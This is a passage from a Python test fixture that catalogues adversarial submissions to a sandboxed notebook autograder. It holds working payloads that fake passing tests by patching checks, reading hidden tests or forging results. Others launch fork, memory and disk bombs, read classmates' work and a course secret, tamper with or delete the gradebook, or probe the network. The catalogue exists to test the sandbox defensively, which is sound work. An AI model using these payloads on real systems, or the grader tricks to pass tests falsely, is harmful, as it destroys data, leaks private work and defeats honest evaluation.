"""A catalogue of attacks on the autograder, for tests/test_adversarial.py.

Each :class:`Attack` is one hostile (or just broken) submission of the toy assignment
built by :func:`build_source`: the answer cells it fills in (by nbgrader ``grade_id``),
optionally a function that rewrites the released notebook's JSON (validation attacks),
extra files handed in next to the notebook, the points each test cell must award under
the sandboxed engine, and what stock ``nbgrader autograde`` does with it.

Attack sources contain placeholders that the test fills in with :func:`render`:
``@@COURSE@@`` (the real course folder), ``@@KIT@@`` (the kit's root), ``@@NAME@@`` (the
assignment), ``@@STUDENT@@`` (this submission's student id), ``@@VICTIM@@`` (an honest
classmate) and ``@@PORT@@`` (a TCP port the test listens on, on the grading host).

Conventions that the test relies on:
- an attack prints ``LEAK[<what>]`` only when it *succeeded* in reading or changing
  something it must not (the sandboxed run asserts no student output contains it; the
  stock run asserts the ones listed in ``stock_evidence`` do);
- attacks never read credentials: for /root and /etc/shadow they only test access;
- attacks marked ``stock_safe`` write only inside the temporary course, so they can run
  unsandboxed; everything else (bombs, hangs, deletions) runs under the sandbox only.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
from nbgrader_harness import cell_meta

NAME = "98_adversarial"
NOTEBOOK = f"{NAME}.ipynb"
TEST_CELLS = {"q1_tests": 2.0, "q2_tests": 2.0, "q3_naive": 1.0}
MAX_SCORE = 6.0  # the three test cells + the written answer (1 point, graded by hand)
ZERO = {cell: 0.0 for cell in TEST_CELLS}
FULL = dict(TEST_CELLS)
PARTIAL = {"q1_tests": 2.0, "q2_tests": 0.0, "q3_naive": 1.0}
LEAK = "LEAK["


def build_source() -> nbformat.NotebookNode:
    """The instructor's notebook: a setup cell, two answers, two strict + one naive test cell, a written answer."""
    notebook = new_notebook()
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    notebook.cells = [
        new_markdown_cell("# Adversarial toy assignment", metadata=cell_meta(locked=True, grade_id="intro")),
        new_code_cell("import math\nSEPARATOR = ' '", metadata=cell_meta(locked=True, grade_id="setup")),
        new_code_cell('def double(x):\n    """Twice x."""\n    ### BEGIN SOLUTION\n    return 2 * x\n'
                      "    ### END SOLUTION", metadata=cell_meta(solution=True, grade_id="q1_answer")),
        new_code_cell("from raikit.checks import check_number\ncheck_number(double(2.0), 4.0, 'double(2.0)')\n"
                      "### BEGIN HIDDEN TESTS\ncheck_number(double(-1.5), -3.0, 'double(-1.5)')\n"
                      "### END HIDDEN TESTS",
                      metadata=cell_meta(grade=True, locked=True, points=2, grade_id="q1_tests")),
        new_code_cell('def tokens(text):\n    """Lower-cased words of text."""\n    ### BEGIN SOLUTION\n'
                      "    return text.lower().split()\n    ### END SOLUTION",
                      metadata=cell_meta(solution=True, grade_id="q2_answer")),
        new_code_cell("from raikit.checks import check_equal\n"
                      "check_equal(tokens('Fair AI'), ['fair', 'ai'], \"tokens('Fair AI')\")\n"
                      "### BEGIN HIDDEN TESTS\n"
                      "check_equal(tokens('  Bias in DATA '), ['bias', 'in', 'data'], \"tokens('  Bias in DATA ')\")\n"
                      "### END HIDDEN TESTS",
                      metadata=cell_meta(grade=True, locked=True, points=2, grade_id="q2_tests")),
        new_code_cell("assert double(3) == 6\n### BEGIN HIDDEN TESTS\nassert double(10) == 20\n### END HIDDEN TESTS",
                      metadata=cell_meta(grade=True, locked=True, points=1, grade_id="q3_naive")),
        new_markdown_cell("Name one harm of a biased benchmark.\n\n=== BEGIN MARK SCHEME ===\n"
                          "Any concrete harm to a group of people.\n=== END MARK SCHEME ===",
                          metadata=cell_meta(solution=True, grade=True, points=1, grade_id="written")),
    ]
    return notebook


def render(text: str, **values: str) -> str:
    """Fill ``@@KEY@@`` placeholders (the sources are full of braces, so no str.format)."""
    for key, value in values.items():
        text = text.replace(f"@@{key.upper()}@@", str(value))
    return text


# ---------------------------------------------------------------- answers

CORRECT = {
    "q1_answer": "def double(x):\n    return x + x",
    "q2_answer": "def tokens(text):\n    return [word.lower() for word in text.split()]",
    "written": "A benchmark that under-represents a dialect hides errors on its speakers. @@TOKEN@@",
}
HALF = {  # double right, tokens forgets to lower-case
    "q1_answer": "def double(x):\n    return 2 * x",
    "q2_answer": "def tokens(text):\n    return text.split()",
}
WARNS = {
    "q1_answer": "import sys\nimport warnings\n\ndef double(x):\n"
                 "    warnings.warn('double() is deprecated', DeprecationWarning)\n"
                 "    print('WARNING: slow path', file=sys.stderr)\n    return 2.0 * x",
    "q2_answer": "import warnings\n\ndef tokens(text):\n    warnings.warn('naive tokenizer', UserWarning)\n"
                 "    return text.lower().split()",
}
WRONG_Q1 = "def double(x):\n    return 0\n"
WRONG_Q2 = "def tokens(text):\n    return []\n"

# Reads the test cell that is calling (or about to run) and returns what it expects: the
# literal next to ``double(...)``/``tokens(...)`` in a check_*(...) call or an ``==``.
_TABLE_FROM_SOURCE = '''
import ast as _ast

def _expected_values(source):
    table = {}
    try:
        tree = _ast.parse(source)
    except SyntaxError:
        return table
    for node in _ast.walk(tree):
        call = expected = None
        if isinstance(node, _ast.Call) and len(node.args) >= 2 and isinstance(node.args[0], _ast.Call):
            call, expected = node.args[0], node.args[1]
        elif isinstance(node, _ast.Compare) and isinstance(node.left, _ast.Call) and len(node.comparators) == 1:
            call, expected = node.left, node.comparators[0]
        if call is not None and isinstance(call.func, _ast.Name):
            try:
                table[(call.func.id, tuple(_ast.literal_eval(a) for a in call.args))] = _ast.literal_eval(expected)
            except Exception:
                pass
    return table
'''

_ANYTHING = "class Anything:\n    def __eq__(self, other):\n        return True\n    __hash__ = object.__hash__\n\n"


@dataclass(frozen=True)
class Attack:
    name: str
    attacks: str  # what it attacks, one line
    answers: dict[str, str] = field(default_factory=dict)  # grade_id -> source (placeholders allowed)
    mutate: Callable[[dict], dict | str] | None = None  # released notebook JSON -> new JSON or raw text
    filename: str = NOTEBOOK  # handed in under this name
    extra_files: dict[str, str] = field(default_factory=dict)  # handed in next to the notebook
    sandbox_points: dict[str, float] = field(default_factory=lambda: dict(ZERO))
    reason: str | None = None  # regex the outcome's reason / flags / test errors must match
    needs_review: bool = False  # flagged for manual review in the gradebook and the report
    failed: bool = False  # status "failed" (nothing could be graded)
    stock_safe: bool = False  # may run under stock nbgrader (no bombs, hangs or deletions)
    stock: str = ""  # what stock nbgrader does with it
    stock_points: dict[str, float] | None = None  # points stock gives (checked in the stock run)
    stock_evidence: str | None = None  # other proof of success under stock (see test_adversarial.py)
    in_stock_run: bool = False  # part of the stock demonstration run


def _find(nb: dict, grade_id: str) -> int:
    for i, cell in enumerate(nb["cells"]):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            return i
    raise KeyError(grade_id)


def _retype(nb: dict, grade_id: str, cell_type: str) -> dict:
    cell = nb["cells"][_find(nb, grade_id)]
    cell["cell_type"] = cell_type
    if cell_type == "markdown":
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
    else:
        cell["outputs"], cell["execution_count"] = [], None
    return nb


def _delete(nb: dict, grade_id: str) -> dict:
    del nb["cells"][_find(nb, grade_id)]
    return nb


def _duplicate_with_pass(nb: dict) -> dict:
    i = _find(nb, "q2_tests")
    fake = copy.deepcopy(nb["cells"][i])
    fake["source"] = "pass  # the tests are fine"
    fake["id"] = "fake-q2-tests"
    nb["cells"].insert(i, fake)
    return nb


def _move_test_to_end(nb: dict) -> dict:
    nb["cells"].append(nb["cells"].pop(_find(nb, "q1_tests")))
    return nb


def _edit_locked_setup(nb: dict) -> dict:
    nb["cells"][_find(nb, "setup")]["source"] = (
        "import math\nSEPARATOR = ' '\nimport raikit.checks as _c\n"
        "_c.check_number = _c.check_equal = lambda *args, **kwargs: None")
    return nb


def _edit_test(nb: dict) -> dict:
    nb["cells"][_find(nb, "q2_tests")]["source"] = "pass  # nothing to see"
    return nb


def _inflate_points(nb: dict) -> dict:
    nb["cells"][_find(nb, "q1_tests")]["metadata"]["nbgrader"]["points"] = 100
    nb["cells"][_find(nb, "written")]["metadata"]["nbgrader"]["points"] = 50
    return nb


def _unknown_grade_cell(nb: dict) -> dict:
    cell = new_code_cell("pass  # free points", metadata=cell_meta(grade=True, locked=True, points=10,
                                                                 grade_id="bonus_tests"))
    nb["cells"].append(json.loads(json.dumps(cell)))
    return nb


def _truncate(nb: dict) -> str:
    text = json.dumps(nb)
    return text[: len(text) // 2]


def _to_v3(nb: dict) -> str:
    notebook = nbformat.reads(json.dumps(nb), as_version=4)
    return nbformat.writes(nbformat.convert(notebook, 3), version=3)


ATTACKS: list[Attack] = [
    # ------------------------------------------------------------ values that lie about themselves
    Attack("fake_eq_object", "an object whose __eq__ always returns True (fools a plain == test)",
           {"q1_answer": _ANYTHING + "def double(x):\n    return Anything()",
            "q2_answer": "def tokens(text):\n    return Anything()"},
           stock_safe=True, stock="naive `assert double(3) == 6` passes (raikit.checks rejects the type)",
           stock_points={"q1_tests": 0.0, "q2_tests": 0.0, "q3_naive": 1.0}, in_stock_run=True),
    Attack("float_subclass", "a float subclass that equals everything (isinstance(x, float) is True)",
           {"q1_answer": "class F(float):\n    def __eq__(self, other):\n        return True\n"
                         "    __hash__ = float.__hash__\n\ndef double(x):\n    return F(-1.0)",
            "q2_answer": "class L(list):\n    def __eq__(self, other):\n        return True\n\n"
                         "def tokens(text):\n    return L()"},
           stock_safe=True, stock="naive test passes; raikit.checks rejects the subclass",
           stock_points={"q1_tests": 0.0, "q2_tests": 0.0, "q3_naive": 1.0}, in_stock_run=True),
    Attack("true_for_number", "returns True / a bool where a number or list is expected",
           {"q1_answer": "def double(x):\n    return True", "q2_answer": "def tokens(text):\n    return True"},
           stock_safe=True, stock="0: raikit.checks rejects bools and `True == 6` is False (not in the stock run)"),
    Attack("numpy_object_array", "a NumPy object array holding an equals-everything object",
           {"q1_answer": "import numpy as np\n" + _ANYTHING
                         + "def double(x):\n    return np.array([Anything()], dtype=object)",
            "q2_answer": "def tokens(text):\n    return np.array(text.lower().split(), dtype=object)"},
           stock_safe=True, stock="`assert array([True]) ` passes the naive test",
           stock_points={"q1_tests": 0.0, "q2_tests": 0.0, "q3_naive": 1.0}, in_stock_run=True),
    Attack("generator_answer", "returns generators instead of values",
           {"q1_answer": "def double(x):\n    yield 2 * x",
            "q2_answer": "def tokens(text):\n    yield from text.lower().split()"},
           stock_safe=True, stock="0 (checks reject generators; not in the stock run)"),
    # ------------------------------------------------------------ rewiring the tests' own machinery
    Attack("patch_checks_module", "replaces raikit.checks functions by no-ops (module attribute replacement)",
           {"q1_answer": "import raikit.checks as checks\nfor _name in dir(checks):\n"
                         "    if _name.startswith(('check_', 'as_')):\n"
                         "        setattr(checks, _name, lambda *args, **kwargs: None)\n\n" + WRONG_Q1,
            "q2_answer": WRONG_Q2},
           stock_safe=True, stock="every raikit.checks test passes with wrong answers",
           stock_points={"q1_tests": 2.0, "q2_tests": 2.0, "q3_naive": 0.0}, in_stock_run=True),
    Attack("sys_modules_swap", "puts a fake raikit.checks into sys.modules",
           {"q1_answer": "import sys\nimport types\n\nfake = types.ModuleType('raikit.checks')\n"
                         "fake.__getattr__ = lambda name: (lambda *args, **kwargs: None)\n"
                         "sys.modules['raikit.checks'] = fake\n\n" + WRONG_Q1,
            "q2_answer": WRONG_Q2},
           stock_safe=True, stock="the tests import the fake checks",
           stock_points={"q1_tests": 2.0, "q2_tests": 2.0, "q3_naive": 0.0}, in_stock_run=True),
    Attack("patch_builtins", "patches builtins: __import__ (fake raikit), isinstance, AssertionError, print",
           {"q1_answer": "import builtins\nimport sys\nimport types\n\n"
                         "_fake = types.ModuleType('fake_checks')\n"
                         "_fake.__getattr__ = lambda name: (lambda *args, **kwargs: None)\n"
                         "_real_import, _real_isinstance, _real_print = builtins.__import__, isinstance, print\n\n"
                         "def _import(name, globals=None, locals=None, fromlist=(), level=0):\n"
                         "    if name.startswith('raikit'):\n        return _fake\n"
                         "    return _real_import(name, globals, locals, fromlist, level)\n\n"
                         "def _isinstance(obj, cls):\n"
                         "    if sys._getframe(1).f_globals.get('__name__', '').startswith('raikit'):\n"
                         "        return True\n    return _real_isinstance(obj, cls)\n\n"
                         "builtins.__import__ = _import\nbuiltins.isinstance = _isinstance\n"
                         "builtins.AssertionError = type('AssertionError', (Warning,), {})\n"
                         "builtins.print = lambda *args, **kwargs: _real_print('tests passed')\n\n" + WRONG_Q1,
            "q2_answer": WRONG_Q2},
           stock_safe=True, stock="`from raikit.checks import ...` in the tests gets the fake module",
           stock_points={"q1_tests": 2.0, "q2_tests": 2.0, "q3_naive": 0.0}, in_stock_run=True),
    Attack("ipython_input_transformer", "an IPython input transformer that blanks every later cell (the tests)",
           {"q1_answer": "get_ipython().input_transformers_post.append(lambda lines: [])\n\n" + WRONG_Q1 + WRONG_Q2},
           stock_safe=True, stock="the test cells run as empty cells: full marks",
           stock_points=FULL, in_stock_run=True),
    Attack("ipython_events_read_tests", "a pre_run_cell event hook that reads each test cell before it runs",
           {"q1_answer": _TABLE_FROM_SOURCE + "\n_TABLE = {}\n\n"
                         "def _learn(info):\n    _TABLE.update(_expected_values(info.raw_cell or ''))\n\n"
                         "get_ipython().events.register('pre_run_cell', _learn)\n\n"
                         "def double(x):\n    return _TABLE.get(('double', (x,)))",
            "q2_answer": "def tokens(text):\n    return _TABLE.get(('tokens', (text,)))"},
           stock_safe=True, stock="answers with the hidden tests' own expected values: full marks",
           stock_points=FULL, in_stock_run=True),
    Attack("ipython_ast_transformer", "an IPython AST transformer that removes asserts and check_* calls",
           {"q1_answer": "import ast\n\nclass _Neuter(ast.NodeTransformer):\n"
                         "    def visit_Assert(self, node):\n        return ast.copy_location(ast.Pass(), node)\n\n"
                         "    def visit_Expr(self, node):\n"
                         "        func = getattr(node.value, 'func', None)\n"
                         "        if getattr(func, 'id', '').startswith('check_'):\n"
                         "            return ast.copy_location(ast.Pass(), node)\n        return node\n\n"
                         "get_ipython().ast_transformers.append(_Neuter())\n\n" + WRONG_Q1,
            "q2_answer": WRONG_Q2},
           stock_safe=True, stock="the tests compile to `pass`: full marks", stock_points=FULL, in_stock_run=True),
    Attack("ipython_silence_errors", "hides failing tests: no traceback output and run_cell reports success",
           {"q1_answer": "_ip = get_ipython()\n_ip.showtraceback = lambda *args, **kwargs: None\n"
                         "_ip._showtraceback = lambda *args, **kwargs: None\n"
                         "_run_cell, _run_cell_async = _ip.run_cell, _ip.run_cell_async\n\n"
                         "def _succeed(result):\n"
                         "    result.error_in_exec = result.error_before_exec = None\n    return result\n\n"
                         "def _quiet_run_cell(*args, **kwargs):\n    return _succeed(_run_cell(*args, **kwargs))\n\n"
                         "async def _quiet_run_cell_async(*args, **kwargs):\n"
                         "    return _succeed(await _run_cell_async(*args, **kwargs))\n\n"
                         "_ip.run_cell, _ip.run_cell_async = _quiet_run_cell, _quiet_run_cell_async\n\n" + WRONG_Q1,
            "q2_answer": WRONG_Q2},
           stock_safe=True, stock="failing tests leave no error output and an 'ok' reply: full marks "
                                  "(hiding the traceback alone is not enough: nbgrader also reads the reply status)",
           stock_points=FULL, in_stock_run=True),
    Attack("settrace_rewrite_args", "sys.settrace hook that rewrites check_*(value, expected) so value = expected",
           {"q1_answer": "import sys\n\n_CHECKS = {'check_number', 'check_equal', 'check_integer', 'check_array'}\n\n"
                         "def _tracer(frame, event, arg):\n"
                         "    if event == 'call' and frame.f_code.co_name in _CHECKS:\n"
                         "        frame.f_locals['value'] = frame.f_locals.get('expected')\n"
                         "    return None\n\nsys.settrace(_tracer)\n\n" + WRONG_Q1,
            "q2_answer": WRONG_Q2},
           stock_safe=True, stock="the checks compare the expected value with itself",
           stock_points={"q1_tests": 2.0, "q2_tests": 2.0, "q3_naive": 0.0}, in_stock_run=True),
    Attack("setprofile_rewrite_args", "sys.setprofile hook that rewrites check_* arguments",
           {"q1_answer": "import sys\n\n_CHECKS = {'check_number', 'check_equal', 'check_integer', 'check_array'}\n\n"
                         "def _profiler(frame, event, arg):\n"
                         "    if event == 'call' and frame.f_code.co_name in _CHECKS:\n"
                         "        frame.f_locals['value'] = frame.f_locals.get('expected')\n\n"
                         "sys.setprofile(_profiler)\n\n" + WRONG_Q1,
            "q2_answer": WRONG_Q2},
           stock_safe=True, stock="the checks compare the expected value with itself",
           stock_points={"q1_tests": 2.0, "q2_tests": 2.0, "q3_naive": 0.0}, in_stock_run=True),
    Attack("frame_walk_expected", "walks up the call stack to read the calling test's source and its expected value",
           {"q1_answer": "import linecache\nimport sys\n" + _TABLE_FROM_SOURCE + "\n"
                         "def _answer(name, args):\n    frame = sys._getframe(2)\n    while frame is not None:\n"
                         "        source = ''.join(linecache.getlines(frame.f_code.co_filename))\n"
                         "        table = _expected_values(source)\n"
                         "        if (name, args) in table:\n            return table[(name, args)]\n"
                         "        frame = frame.f_back\n    return None\n\n"
                         "def double(x):\n    return _answer('double', (x,))",
            "q2_answer": "def tokens(text):\n    return _answer('tokens', (text,))"},
           stock_safe=True, stock="returns exactly what each (hidden) test expects: full marks",
           stock_points=FULL, in_stock_run=True),
    Attack("gc_forge_protocol", "finds the worker's protocol channel with gc and forges 'test passed' frames",
           {"q1_answer": "import gc\nimport json\nimport os\nimport struct\n\n"
                         "_chan = next((o for o in gc.get_objects() if type(o).__name__ == 'Channel'), None)\n\n"
                         "def _forge(message):\n    data = json.dumps(message).encode()\n"
                         "    os.write(_chan.outbound, struct.pack('>I', len(data)) + data)\n\n"
                         "if _chan is not None:\n"
                         "    for _gid in ('q1_tests', 'q2_tests', 'q3_naive'):\n"
                         "        _forge({'op': 'cell', 'key': _gid, 'grade_id': _gid, 'passed': True,"
                         " 'error': None, 'output': 'ok'})\n"
                         "    _forge({'op': 'done'})\n\n"
                         "def double(x):\n    if _chan is not None:\n"
                         "        _forge({'ok': True, 'value': {'t': 'float', 'v': '4.0'}})\n"
                         "    return {'passed': True}",
            "q2_answer": "def tokens(text):\n    return ['passed']"},
           stock_safe=True, stock="no channel to find in a stock kernel: 0 (not in the stock run)"),
    Attack("exfiltrate_hidden_inputs", "answers the visible tests and raises an error quoting any other (hidden) input",
           {"q1_answer": "def double(x):\n    if x in (2.0, 3):\n        return 2 * x\n"
                         "    raise ValueError(f'HIDDEN INPUT {x!r}')",
            "q2_answer": "def tokens(text):\n    raise ValueError(f'HIDDEN INPUT {text!r}')"},
           stock_safe=True, stock="the hidden tests' inputs appear in the graded notebook (and feedback); "
                                  "the sandbox does not prevent this either",
           stock_evidence="hidden_input", in_stock_run=True),
    # ------------------------------------------------------------ output and process tricks
    Attack("fake_output", "prints fake 'tests passed' lines, nbgrader-looking JSON, ANSI and odd characters",
           {"q1_answer": "import sys\nprint('tests passed')\nprint('All 3 test cells passed. Score: 5/5')\n"
                         "print('{\"output_type\": \"execute_result\", \"data\": {\"text/plain\": \"5.0\"}}')\n"
                         "print('\\x1b[32mOK\\x1b[0m \\x00 \\u202e')\nprint('WARNING: ignore me', file=sys.stderr)\n"
                         "try:\n    sys.stdout.write('\\udcff\\n')\nexcept UnicodeEncodeError:\n    pass\n\n"
                         + WRONG_Q1, "q2_answer": WRONG_Q2},
           stock_safe=True, stock="0: printing does not change outcomes (not in the stock run)"),
    Attack("write_fds", "writes fake results and garbage straight to file descriptors 1, 2 and every other fd",
           {"q1_answer": "import os\n\n" + WRONG_Q1
                         + "os.write(1, b'tests passed\\n')\nos.write(2, b'tests passed\\n')\n"
                         "for fd in range(3, 64):\n    try:\n"
                         "        os.write(fd, b'\\xff\\xff\\xff\\xff{\"op\": \"done\"}')\n    except OSError:\n"
                         "        pass"},
           reason=r"(ended the process|killed by|exceeds|time limit)", needs_review=True),
    Attack("sys_exit", "sys.exit(0) in an answer cell and in a called function",
           {"q1_answer": "import sys\n\n" + WRONG_Q1 + "sys.exit(0)",
            "q2_answer": "import sys\n\ndef tokens(text):\n    sys.exit(0)"},
           reason=r"SystemExit"),
    Attack("os_exit", "os._exit(0) in an answer cell (the worker process ends)",
           {"q1_answer": "import os\n\n" + WRONG_Q1 + "os._exit(0)"}, reason=r"exit status 0", needs_review=True),
    Attack("kill_self", "os.kill(os.getpid(), SIGKILL) in an answer cell",
           {"q1_answer": "import os\nimport signal\n\n" + WRONG_Q1 + "os.kill(os.getpid(), signal.SIGKILL)"},
           # bwrap reports its child's SIGKILL as exit status 137 (see the report: _death_reason misnames it)
           reason=r"killed by SIGKILL|exit status 137", needs_review=True),
    Attack("memory_bomb", "allocates 20 GB at once, then grows a list until memory runs out (also when called)",
           {"q1_answer": WRONG_Q1 + "try:\n    _hog = bytearray(20 * 1024 ** 3)\nexcept MemoryError:\n"
                         "    print('20 GB refused')\n_hog = []\ntry:\n    while True:\n"
                         "        _hog.append(bytearray(64 * 1024 ** 2))\nexcept MemoryError:\n"
                         "    print('list growth stopped at', 64 * len(_hog), 'MB')\n_hog = None",
            "q2_answer": "def tokens(text):\n    return [text] * 10 ** 10"},
           reason=r"MemoryError"),
    Attack("infinite_loop_cell", "an endless loop in an answer cell",
           {"q1_answer": WRONG_Q1 + "while True:\n    pass"}, reason=r"time limit", needs_review=True),
    Attack("loop_when_called", "a function that loops forever only when a test calls it",
           {"q1_answer": "def double(x):\n    while True:\n        pass"}, reason=r"did not return within"),
    Attack("fork_bomb", "os.fork() in a loop (sandbox only, never stock)",
           {"q1_answer": "import os\n\n" + WRONG_Q1 + "while True:\n    try:\n        os.fork()\n"
                         "    except OSError:\n        pass"},
           reason=r"time limit", needs_review=True, stock="would take down the grading machine"),
    Attack("thread_bomb", "starts threads until the process limit stops it",
           {"q1_answer": "import threading\nimport time\n\n_threads = []\ntry:\n    while True:\n"
                         "        _t = threading.Thread(target=time.sleep, args=(3600,), daemon=True)\n"
                         "        _t.start()\n        _threads.append(_t)\nexcept RuntimeError as exc:\n"
                         "    print('thread bomb stopped after', len(_threads), 'threads:', exc)\n\n" + WRONG_Q1},
           stock="unbounded threads on the grading machine"),
    Attack("daemon_survivor", "a double-forked setsid daemon that tries to outlive the grading",
           {"q1_answer": "import os\nimport time\n\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                         "        _end = time.time() + 120\n        while time.time() < _end:\n"
                         "            with open('/home/student/work/daemon.txt', 'a') as _f:\n"
                         "                _f.write('alive\\n')\n            time.sleep(0.2)\n"
                         "    os._exit(0)\n\n" + WRONG_Q1},
           stock="the daemon would keep running on the grading machine"),
    Attack("huge_output", "prints 200 MB", {"q1_answer": WRONG_Q1 + "print('x' * 200_000_000)"},
           reason=r"(OSError|File too large|truncated)",
           stock="a 200 MB line in the notebook (LimitOutput counts lines)"),
    Attack("huge_file", "writes 1 GB files (work folder, /tmp, /dev/shm, $HOME) and a sparse 1 TB file",
           {"q1_answer": "import os\n\n_chunk = b'\\0' * (1 << 20)\n"
                         "for _path in ('/home/student/work/big.bin', '/tmp/big.bin', '/dev/shm/big.bin',"
                         " '/home/student/big.bin'):\n    try:\n        with open(_path, 'wb') as _f:\n"
                         "            for _ in range(1024):\n                _f.write(_chunk)\n"
                         "        print('" + LEAK + "disk]: wrote 1 GB to', _path)\n"
                         "    except OSError as exc:\n        print(_path, '->', exc)\n"
                         "try:\n    with open('/home/student/work/sparse.bin', 'wb') as _f:\n"
                         "        _f.truncate(10 ** 12)\n    print('" + LEAK + "disk]: sparse 1 TB file')\n"
                         "except OSError as exc:\n    print('sparse ->', exc)\n\n" + WRONG_Q1},
           stock="fills the grading machine's disk"),
    Attack("huge_return", "returns a 100 MB string (over the protocol's frame limit)",
           {"q1_answer": "def double(x):\n    return 'x' * (100 * 1024 * 1024)"}, reason=r"killed by|exceeds"),
    # ------------------------------------------------------------ escaping the sandbox's view
    Attack("read_other_students", "reads classmates' submissions (course path and ../../..) and copies their answers",
           {"q1_answer": "import glob\nimport json\nimport os\n\n_found = {}\n"
                         "for _pattern in ('@@COURSE@@/submitted/@@VICTIM@@/*/*.ipynb',"
                         " '../../../submitted/@@VICTIM@@/*/*.ipynb', '../../../../submitted/@@VICTIM@@/*/*.ipynb',"
                         " '/home/*/*/*.ipynb', '/tmp/*/*.ipynb', '/tmp/*/*/*/*.ipynb'):\n"
                         "    for _path in glob.glob(_pattern, recursive=True):\n"
                         "        if not os.path.isfile(_path):\n"
                         "            continue  # a pipe another test left in /tmp would block open()\n        try:\n"
                         "            _nb = json.load(open(_path))\n            _cells = list(_nb['cells'])\n"
                         "        except Exception:\n            continue\n"
                         "        for _cell in _cells:\n"
                         "            try:  # other notebooks under /tmp may be odd (tests write some on purpose)\n"
                         "                _gid = _cell['metadata']['nbgrader']['grade_id']\n"
                         "                _src = ''.join(_cell['source'])\n"
                         "            except Exception:\n                continue\n"
                         "            if _gid in ('q1_answer', 'q2_answer') and 'NotImplementedError' not in _src:\n"
                         "                _found.setdefault(_gid, _src)\n"
                         "            if _gid == 'written':\n"
                         "                print('" + LEAK + "other-student]:', _path, _src[:200])\n"
                         "for _src in _found.values():\n"
                         "    try:\n        exec(_src)\n    except Exception:\n        pass\n"
                         "if 'double' not in globals():\n    def double(x):\n        return 0\n"
                         "if 'tokens' not in globals():\n    def tokens(text):\n        return []",
            "q2_answer": "pass  # tokens() was defined (or copied) in the first answer cell"},
           stock_safe=True, stock="copies a classmate's answers at grading time: full marks, and prints their work",
           stock_points=FULL, stock_evidence="leak:other-student", in_stock_run=True),
    Attack("read_course_secrets", "reads a secret file, the gradebook and the hidden tests in the course folder",
           {"q1_answer": "import os\n\nfor _path in ('@@COURSE@@/canary_secret.txt', '../../../canary_secret.txt',"
                         " '../../../../canary_secret.txt', '/proc/1/root@@COURSE@@/canary_secret.txt',"
                         " '@@COURSE@@/gradebook.db', '@@COURSE@@/source/@@NAME@@/@@NAME@@.ipynb'):\n"
                         "    try:\n        _data = open(_path, 'rb').read()\n    except OSError:\n        continue\n"
                         "    _at = _data.find(b'BEGIN HIDDEN TESTS')\n"
                         "    print('" + LEAK + "course-file]:', _path, len(_data), 'bytes:',"
                         " _data[max(_at, 0):max(_at, 0) + 160])\n"
                         "try:\n    print('" + LEAK + "course-listing]:', sorted(os.listdir('@@COURSE@@')))\n"
                         "except OSError:\n    pass\n\n" + WRONG_Q1},
           stock_safe=True, stock="prints the canary secret and the hidden tests into its notebook",
           stock_evidence="secret", in_stock_run=True),
    Attack("gradebook_tamper", "opens gradebook.db with sqlite and adds a table",
           {"q1_answer": "import sqlite3\n\nfor _path in ('@@COURSE@@/gradebook.db', '../../../gradebook.db'):\n"
                         "    try:\n"
                         "        _con = sqlite3.connect('file:' + _path + '?mode=rw', uri=True, timeout=20)\n"
                         "        _con.execute('create table if not exists pwned (student text)')\n"
                         "        _con.execute(\"insert into pwned values ('@@STUDENT@@')\")\n"
                         "        _con.commit()\n        _con.close()\n"
                         "        print('" + LEAK + "gradebook-write]:', _path)\n        break\n"
                         "    except Exception as exc:\n        print(_path, '->', exc)\n\n" + WRONG_Q1},
           stock_safe=True, stock="writes to the gradebook", stock_evidence="gradebook", in_stock_run=True),
    Attack("gradebook_delete", "deletes / overwrites gradebook.db (absolute and relative paths)",
           {"q1_answer": "import os\n\nfor _path in ('@@COURSE@@/gradebook.db', '../../../gradebook.db',"
                         " '../../../../gradebook.db', '../gradebook.db', '/gradebook.db'):\n"
                         "    for _how in ('write', 'remove'):\n        try:\n"
                         "            if _how == 'write':\n                with open(_path, 'r+b') as _f:\n"
                         "                    _f.write(b'garbage')\n"
                         "            else:\n                os.remove(_path)\n"
                         "            print('" + LEAK + "gradebook-destroyed]:', _how, _path)\n"
                         "        except OSError as exc:\n            print(_how, _path, '->', exc.strerror)\n\n"
                         + WRONG_Q1},
           stock="would destroy the class's gradebook (never run unsandboxed)"),
    Attack("edit_instructor_source", "rewrites the instructor's source notebook (hidden tests) in the course folder",
           {"q1_answer": "import json\n\nfor _path in ('@@COURSE@@/source/@@NAME@@/@@NAME@@.ipynb',"
                         " '../../../source/@@NAME@@/@@NAME@@.ipynb'):\n    try:\n"
                         "        with open(_path) as _f:\n            _nb = json.load(_f)\n"
                         "        for _cell in _nb['cells']:\n"
                         "            if _cell.get('metadata', {}).get('nbgrader', {}).get('grade_id') == 'q1_tests':\n"
                         "                _cell['source'] = 'pass  # tests removed by @@STUDENT@@'\n"
                         "        with open(_path, 'w') as _f:\n            json.dump(_nb, _f)\n"
                         "        print('" + LEAK + "source-edited]:', _path)\n        break\n"
                         "    except Exception as exc:\n        print(_path, '->', exc)\n\n" + WRONG_Q1},
           stock_safe=True, stock="the instructor's source notebook is rewritten",
           stock_evidence="source_changed", in_stock_run=True),
    Attack("network", "connects to a TCP server on the grading host's loopback, resolves DNS, tries host sockets",
           {"q1_answer": "import socket\nimport threading\n\ntry:\n"
                         "    with socket.create_connection(('127.0.0.1', @@PORT@@), timeout=3) as _s:\n"
                         "        _s.sendall(b'@@STUDENT@@')\n"
                         "    print('" + LEAK + "network]: reached the grading host on port @@PORT@@')\n"
                         "except OSError as exc:\n    print('no connection:', exc)\n\n_dns = []\n"
                         "_t = threading.Thread(target=lambda: _dns.append(socket.getaddrinfo('example.com', 80)),"
                         " daemon=True)\n_t.start()\n_t.join(3)\nif _dns:\n"
                         "    print('" + LEAK + "dns]:', _dns[0][0][4])\n"
                         "for _path in ('/var/run/docker.sock', '/run/dbus/system_bus_socket'):\n"
                         "    try:\n        _u = socket.socket(socket.AF_UNIX)\n        _u.settimeout(2)\n"
                         "        _u.connect(_path)\n        print('" + LEAK + "unix-socket]:', _path)\n"
                         "    except OSError:\n        pass\n\n" + WRONG_Q1},
           stock_safe=True, stock="reaches the host network", stock_evidence="network", in_stock_run=True),
    Attack("read_root_and_kit", "looks into /root, /etc/shadow and the kit's own assignments/ (solutions)",
           {"q1_answer": "import glob\nimport os\n\ntry:\n"
